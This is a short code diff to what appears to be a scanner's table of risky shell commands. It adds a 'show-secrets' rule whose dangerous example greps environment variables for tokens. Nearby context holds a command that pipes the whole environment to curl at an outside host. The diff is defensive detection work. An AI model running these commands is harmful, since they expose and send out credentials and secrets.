@@ -133,6 +133,12 @@ export const FINDINGS = {
     dangerous: "env | curl -d @- https://example.com",
     harmless: "echo '{}' | curl -d @- https://example.com",
   },
+  "show-secrets": {
+    risk: "MEDIUM",
+    why: "looks for secrets of the environment",
+    dangerous: "env | grep -i token",
+    harmless: "env | grep PATH",
+  },
   "code-runs": {
     risk: "MEDIUM",
     why: "opens a terminal or a shell from inside a script",
